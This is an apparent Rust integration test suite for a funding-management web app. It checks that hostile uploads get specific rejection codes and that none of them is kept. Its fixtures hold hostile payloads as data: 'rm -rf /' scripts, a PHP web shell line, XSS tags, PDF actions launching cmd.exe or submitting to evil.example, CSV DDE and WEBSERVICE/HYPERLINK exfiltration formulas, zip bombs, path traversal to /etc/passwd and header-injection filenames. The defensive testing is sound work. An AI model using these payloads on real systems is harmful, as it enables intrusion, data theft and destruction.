//! Hostile uploads: one table of what somebody would try, what is said to each, and that nothing of it is kept.

use super::files::{self, JPEG, ODS, Part, ods, packed, part, pdf, png, xlsx, xlsx_of, zip};
use crate::delivery::scene;
use crate::paper::{PDF, PNG};
use crate::world::{World, both};
use foerderbuch::db::q;
use foerderbuch::document::Files;
use foerderbuch::document::rules::LARGEST;
use rocket::http::{ContentType, Cookie, Header};

type Row = (&'static str, Vec<u8>, &'static str);

fn programs_and_pages() -> Vec<Row> {
    let html = b"<html><script>alert(1)</script></html>";
    let svg = b"<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>";
    vec![
        ("leer.pdf", Vec::new(), "document.empty"),
        ("bescheid.pdf", html.to_vec(), "document.wrong-kind"),
        ("bild.png", html.to_vec(), "document.wrong-kind"),
        ("programm.pdf", b"MZ\x90\0\x03\0\0\0".to_vec(), "document.wrong-kind"),
        ("skript.pdf", b"#!/bin/sh\nrm -rf /\n".to_vec(), "document.wrong-kind"),
        ("bild.svg", svg.to_vec(), "document.wrong-kind"),
        ("bild.png", svg.to_vec(), "document.wrong-kind"),
        ("bild.gif", b"GIF89a\x01\0\x01\0;".to_vec(), "document.wrong-kind"),
        ("bild.tif", b"II*\0\x08\0\0\0\0\0\0\0".to_vec(), "document.wrong-kind"),
        ("bild.webp", b"RIFF\x1a\0\0\0WEBPVP8L".to_vec(), "document.wrong-kind"),
        ("mappe.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1".to_vec(), "document.wrong-kind"),
        ("verschlossen.xlsx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1EncryptedPackage".to_vec(), "document.wrong-kind"),
    ]
}

fn pdfs() -> Vec<Row> {
    let late = [b" ".as_slice(), PDF].concat();
    let with_archive = [b"%PDF-1.4\n".as_slice(), &zip(&[part("a", b"b")]), b"\n%%EOF"].concat();
    vec![
        ("seite.pdf", pdf("/T (<html><script>alert(1)</script></html>)"), "document.polyglot"),
        ("server.pdf", pdf("/T (<?php system($_GET[0]); ?>)"), "document.polyglot"),
        ("archiv.pdf", with_archive, "document.polyglot"),
        ("dahinter.pdf", [PDF, b"<html>".as_slice()].concat(), "document.not-whole"),
        ("davor.pdf", late, "document.wrong-kind"),
        ("halb.pdf", PDF[..PDF.len() / 2].to_vec(), "document.not-whole"),
        ("a.pdf", pdf("/S /JavaScript /JS (app.alert(1))"), "document.active-content"),
        ("b.pdf", pdf("/S /J#61vaScript /JS (app.alert(1))"), "document.active-content"),
        ("c.pdf", pdf("/S/Launch/F(cmd.exe)"), "document.active-content"),
        ("d.pdf", pdf("/Type /EmbeddedFile"), "document.active-content"),
        ("e.pdf", pdf("/Subtype /RichMedia"), "document.active-content"),
        ("f.pdf", pdf("/AcroForm << /XFA 5 0 R >>"), "document.active-content"),
        ("g.pdf", pdf("/S /SubmitForm /F (https://evil.example)"), "document.active-content"),
        ("h.pdf", pdf("/S /ImportData"), "document.active-content"),
        ("i.pdf", pdf("/S /GoToR /F (\\\\\\\\evil.example\\\\x)"), "document.active-content"),
        ("bescheid.png", PDF.to_vec(), "document.wrong-ending"),
        ("bescheid.pdf.exe", PDF.to_vec(), "document.wrong-ending"),
        ("bescheid", PDF.to_vec(), "document.wrong-ending"),
    ]
}

fn pictures() -> Vec<Row> {
    let with_comment = [&JPEG[..2], b"\xff\xfe\0\x1e<?php system($_GET[0]); ?>\0\0", &JPEG[2..]].concat();
    let archive = [JPEG, &zip(&[part("a", b"b")]), b"\xff\xd9"].concat();
    vec![
        ("halb.png", PNG[..PNG.len() - 5].to_vec(), "document.not-whole"),
        ("dahinter.png", [PNG, b"<script>".as_slice()].concat(), "document.not-whole"),
        ("seite.png", png(b"Comment\0<script>alert(1)</script>"), "document.polyglot"),
        ("auch.png", png(b"Comment\0%PDF-1.4 /S /JavaScript"), "document.polyglot"),
        ("halb.jpg", JPEG[..JPEG.len() - 2].to_vec(), "document.not-whole"),
        ("server.jpg", with_comment, "document.polyglot"),
        ("archiv.jpg", archive, "document.polyglot"),
        ("bild.pdf", JPEG.to_vec(), "document.wrong-ending"),
    ]
}

fn tables() -> Vec<Row> {
    let text = |text: &str| text.as_bytes().to_vec();
    vec![
        ("seite.csv", text("<svg onload=alert(1)>"), "document.polyglot"),
        ("seite.csv", text("a;b\n1;<script>alert(1)</script>\n"), "document.polyglot"),
        ("null.csv", b"a;b\n1;\0\n".to_vec(), "document.not-a-table"),
        ("utf16.csv", b"\xff\xfea\0;\0b\0".to_vec(), "document.not-a-table"),
        ("programm.csv", text("MZ;a"), "document.not-a-table"),
        ("skript.csv", text("#!/bin/sh\nrm -rf /\n"), "document.not-a-table"),
        ("brief.csv", text("{\\rtf1 hallo}"), "document.not-a-table"),
        ("leer.csv", text(" \r\n \r\n"), "document.empty"),
        ("dde.csv", text("a;b\n=cmd|' /C calc'!A0;1\n"), "document.active-content"),
        ("dde2.csv", text("a,b\n\"@SUM(1+1)*cmd|' /C calc'!A0\",1\n"), "document.active-content"),
        ("holt.csv", text("a;=WEBSERVICE(A1)\n"), "document.active-content"),
        ("klick.csv", text("a;=HYPERLINK(\"https://evil.example/?x=\"&A1;\"hier\")\n"), "document.active-content"),
        ("bescheid.csv", PDF.to_vec(), "document.wrong-ending"),
    ]
}

fn rels(relationship: &str) -> Vec<u8> {
    let text = format!("<Relationships>{relationship}</Relationships>");
    xlsx(&[packed("xl/worksheets/_rels/sheet1.xml.rels", text.as_bytes())])
}

fn sheet(inside: &str) -> Vec<u8> {
    xlsx(&[packed("xl/worksheets/sheet2.xml", format!("<worksheet>{inside}</worksheet>").as_bytes())])
}

fn workbooks() -> Vec<Row> {
    let image = "Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/image\" Target=\"https://evil.example/x.png\"";
    let link = "Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink\" Target=\"file:///c:/x.exe\"";
    let laughs = "<!DOCTYPE x [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;\">]>";
    let manifest = "<manifest:manifest/>";
    let macros = |name: &str| xlsx(&[part(name, b"x")]);
    vec![
        (
            "brief.xlsx",
            zip(&[part("[Content_Types].xml", b"<Types/>"), part("word/document.xml", b"<w/>")]),
            "document.wrong-kind",
        ),
        ("archiv.zip", zip(&[part("a.txt", b"b")]), "document.wrong-kind"),
        ("makro.xlsm", xlsx_of("ms-excel.sheet.macroEnabled.main+xml"), "document.macros"),
        ("makro.xlsx", macros("xl/vbaProject.bin"), "document.macros"),
        ("alt.xlsx", macros("xl/macrosheets/sheet1.xml"), "document.macros"),
        ("objekt.xlsx", macros("xl/embeddings/oleObject1.bin"), "document.macros"),
        ("steuer.xlsx", macros("xl/activeX/activeX1.xml"), "document.macros"),
        ("verbindung.xlsx", macros("xl/connections.xml"), "document.macros"),
        ("fremd.xlsx", macros("xl/externalLinks/externalLink1.xml"), "document.macros"),
        (
            "bild.xlsx",
            rels(&format!("<Relationship Id=\"r1\" {image} TargetMode=\"External\"/>")),
            "document.active-content",
        ),
        (
            "klick.xlsx",
            rels(&format!("<Relationship Id=\"r1\" {link} TargetMode=\"External\"/>")),
            "document.active-content",
        ),
        ("holt.xlsx", sheet("<f>_xlfn.WEBSERVICE(\"https://evil.example\")</f>"), "document.active-content"),
        ("lacht.xlsx", sheet(laughs), "document.active-content"),
        ("dde.xlsx", sheet("<ddeLink ddeService=\"cmd\"/>"), "document.active-content"),
        ("makro.ods", ods(ODS, "<x/>", manifest, &[part("Basic/Standard/Module1.xml", b"x")]), "document.macros"),
        ("ereignis.ods", ods(ODS, "<script:event-listener/>", manifest, &[]), "document.active-content"),
        (
            "fremd.ods",
            ods(ODS, "<c formula=\"of:=['file:///c:/x.ods'#$A.A1]\"/>", manifest, &[]),
            "document.active-content",
        ),
        ("zu.ods", ods(ODS, "<x/>", "<manifest:encryption-data/>", &[]), "document.locked"),
        ("brief.ods", ods("application/vnd.oasis.opendocument.text", "<x/>", manifest, &[]), "document.wrong-kind"),
        ("mappe.ods", xlsx(&[]), "document.wrong-ending"),
    ]
}

fn containers() -> Vec<Row> {
    let good = xlsx(&[]);
    let zeros = vec![b' '; 6 * 1024 * 1024];
    let bomb = |lie| xlsx(&[Part { lie, ..packed("xl/media/a.bin", &zeros) }]);
    let one = |one: Part| xlsx(&[one]);
    let many: Vec<Part> = (0..2_001).map(|n| part(&format!("xl/a{n}"), b"x")).collect();
    let mut overlap = good.clone();
    // The list says that the last part begins where the first one does.
    let place = overlap.windows(4).rposition(|four| four == b"PK\x01\x02").unwrap();
    overlap[place + 42..place + 46].copy_from_slice(&[0; 4]);
    vec![
        ("bombe.xlsx", bomb(None), "document.bomb"),
        ("luegt.xlsx", bomb(Some(100)), "document.bomb"),
        ("luegt.xlsx", one(Part { lie: Some(7), ..part("xl/media/a.bin", b"x") }), "document.not-whole"),
        ("viele.xlsx", xlsx(&many), "document.bomb"),
        ("nest.xlsx", one(part("xl/media/a.bin", &good)), "document.polyglot"),
        ("programm.xlsx", one(part("xl/media/image1.png", b"MZ\x90\0")), "document.polyglot"),
        ("pfad.xlsx", one(part("../../etc/passwd", b"x")), "document.polyglot"),
        ("wurzel.xlsx", one(part("/etc/passwd", b"x")), "document.polyglot"),
        ("doppelt.xlsx", xlsx(&[part("xl/WORKBOOK.xml", b"x")]), "document.polyglot"),
        ("utf16.xlsx", one(part("xl/styles.xml", b"<\0x\0/\0>\0")), "document.polyglot"),
        ("zu.xlsx", one(Part { flags: 1, ..part("xl/a.bin", b"x") }), "document.locked"),
        ("ueber.xlsx", overlap, "document.bomb"),
        ("halb.xlsx", good[..good.len() / 2].to_vec(), "document.not-whole"),
        ("davor.xlsx", [b"MZ".as_slice(), &good].concat(), "document.wrong-kind"),
        ("dahinter.xlsx", [good.as_slice(), b"<script>"].concat(), "document.polyglot"),
    ]
}

fn names() -> Vec<Row> {
    let named = |name: &'static str, code: &'static str| (name, PDF.to_vec(), code);
    vec![
        named("../../etc/passwd.pdf", "document.bad-name"),
        named("..\\x.pdf", "document.bad-name"),
        named("C:\\bescheid.pdf", "document.bad-name"),
        named("a\r\nSet-Cookie: b.pdf", "document.bad-name"),
        named("a\u{2028}b.pdf", "document.bad-name"),
        named("rechnung\u{202e}fdp.exe", "document.bad-name"),
        named("rechnung\u{2067}.pdf", "document.bad-name"),
        named("un\u{200b}sichtbar.pdf", "document.bad-name"),
        named("a%0d%0ab.pdf", "document.bad-name"),
        named("a\"; filename=\"b.pdf", "document.bad-name"),
        named("<img src=x>.pdf", "document.bad-name"),
        named(".pdf", "document.bad-name"),
        named("bescheid.pdf.", "document.bad-name"),
        named("", "document.name-missing"),
    ]
}

both!(hostile_uploads_are_refused_and_leave_nothing, |world| {
    let scene = scene(&world).await;
    scene.issued(&world).await;
    let path = format!("/awards/{}/documents", scene.award);
    let all = [programs_and_pages(), pdfs(), pictures(), tables(), workbooks(), containers(), names()].concat();
    assert!(all.len() >= 90, "{}", all.len());
    for (name, bytes, code) in &all {
        let query = form_urlencoded::Serializer::new(String::new()).append_pair("name", name).finish();
        let sent = world.send(&format!("{path}?{query}"), &scene.coordinator, ContentType::Binary, bytes).await;
        assert_eq!((sent.status, sent.faults()), (422, vec![format!("file {code}")]), "{name:?} {code}");
        assert!(!sent.text.contains("\u{202e}") && !sent.text.contains("evil.example"), "{}", sent.text);
    }
    let long = "a".repeat(117) + ".pdf";
    let long = world.send(&format!("{path}?name={long}"), &scene.coordinator, ContentType::Binary, PDF).await.is(422);
    assert_eq!(long.faults(), ["file input.too-long"]);
    let null = world.send(&format!("{path}?name=a%00.pdf"), &scene.coordinator, ContentType::Binary, PDF).await.is(422);
    assert_eq!(null.faults(), ["name input.control-character"]);
    for size in [LARGEST + 1, 26_000_000, 27 * 1024 * 1024] {
        let huge = vec![b' '; size];
        world.send(&format!("{path}?name=a.pdf"), &scene.coordinator, ContentType::Binary, &huge).await.is(413);
    }
    nothing_is_kept(&world).await;
});

async fn nothing_is_kept(world: &World) {
    let kept: i64 = world.db().one(q("SELECT COUNT(*) AS n FROM documents")).await.unwrap();
    assert_eq!((kept, Files::below(world.data_dir()).all().unwrap()), (0, Vec::new()));
}

both!(a_form_that_lies_or_is_cut_off_leaves_nothing_either, |world| {
    let scene = scene(&world).await;
    scene.issued(&world).await;
    let path = format!("/awards/{}/documents", scene.award);
    let body = |file: &str, bytes: &[u8]| {
        let csrf = &scene.coordinator.csrf;
        let mut body = format!("--x\r\nContent-Disposition: form-data; name=\"csrf\"\r\n\r\n{csrf}\r\n").into_bytes();
        body.extend(b"--x\r\nContent-Disposition: form-data; name=\"about\"\r\n\r\naward\r\n");
        let kind = if file.contains("Content-Type") { "" } else { "\r\nContent-Type: application/octet-stream" };
        body.extend(format!("--x\r\nContent-Disposition: form-data; name=\"file\"; {file}{kind}\r\n\r\n").bytes());
        body.extend(bytes);
        body.extend(b"\r\n--x--\r\n");
        body
    };
    let send = async |body: Vec<u8>| {
        let kind = ContentType::new("multipart", "form-data").with_params(("boundary", "x"));
        let length = Header::new("Content-Length", body.len().to_string());
        let request = world.client.post(path.clone()).header(kind).header(length).body(body);
        world.raw(request.cookie(Cookie::new("session", scene.coordinator.cookie.clone()))).await
    };
    for (file, bytes, status) in [
        ("filename=\"../../x.pdf\"", PDF, 422),
        ("filename=\"a\u{202e}fdp.exe\"\r\nContent-Type: application/pdf", PDF, 422),
        ("filename=\"bescheid.pdf\"\r\nContent-Type: application/pdf", b"<html></html>".as_slice(), 422),
        ("filename=\"bild.png\"\r\nContent-Type: image/png", PDF, 422),
        ("filename=\"leer.pdf\"", b"", 422),
        ("filename=\"\"", b"", 422),
    ] {
        assert_eq!(send(body(file, bytes)).await.status, status, "{file}");
    }
    let whole = body("filename=\"bescheid.pdf\"", PDF);
    for cut in [whole.len() / 2, whole.len() - 30, whole.len() - 6] {
        let answered = send(whole[..cut].to_vec()).await;
        assert!(matches!(answered.status, 400 | 403 | 422), "{cut}: {} {}", answered.status, answered.text);
    }
    let huge = vec![b' '; 26_000_000];
    assert_eq!(send(body("filename=\"groß.pdf\"", &huge)).await.status, 413);
    nothing_is_kept(&world).await;
    assert_eq!(send(whole).await.status, 303);
});

both!(good_files_come_in_by_content_and_ending, |world| {
    let scene = scene(&world).await;
    scene.issued(&world).await;
    let path = format!("/awards/{}/documents", scene.award);
    let latin: &[u8] = b"Beleg;Empf\xe4nger\r\n1;\"-12,50\"\r\n";
    let real = files::real_xlsx();
    for (name, bytes, kind) in [
        ("Bescheid vom 3. November 2026.PDF", PDF.to_vec(), "application/pdf"),
        ("Foto.jpeg", JPEG.to_vec(), "image/jpeg"),
        ("Plan & Übersicht (neu).png", PNG.to_vec(), "image/png"),
        ("Belege.csv", "Beleg;Betrag\n1;-12,50\n=SUM(A1:A2);+49 611\n".as_bytes().to_vec(), "text/csv"),
        ("Belege-latin1.csv", latin.to_vec(), "text/csv"),
        ("Belege.xlsx", xlsx(&[]), files::XLSX),
        ("Echt.xlsx", real, files::XLSX),
        ("Belege.ods", files::good_ods(), ODS),
    ] {
        let query = form_urlencoded::Serializer::new(String::new()).append_pair("name", name).finish();
        let sent =
            world.send(&format!("{path}?{query}"), &scene.coordinator, ContentType::Binary, &bytes).await.is(201);
        let kept = sent.json();
        assert_eq!((kept["name"].as_str(), kept["media_type"].as_str()), (Some(name), Some(kind)));
        let load = format!("{path}/{}", kept["id"].as_str().unwrap());
        let file = world.get(&load, Some(&scene.viewer)).await.is(200);
        assert_eq!(file.bytes, bytes, "{name}");
        let told = file.header("Content-Disposition").unwrap();
        assert!(told.starts_with("attachment; filename=\"unterlage-") && told.is_ascii(), "{told}");
        assert_eq!(file.header("X-Content-Type-Options"), Some("nosniff"));
        assert_eq!(file.header("X-Content-SHA256"), kept["sha256"].as_str());
    }
    // A workbook that we write ourselves comes in as well.
    let own = world.get("/exports/awards.xlsx", Some(&scene.officer)).await.is(200).bytes;
    world.send(&format!("{path}?name=eigene.xlsx"), &scene.officer, ContentType::Binary, &own).await.is(201);
});
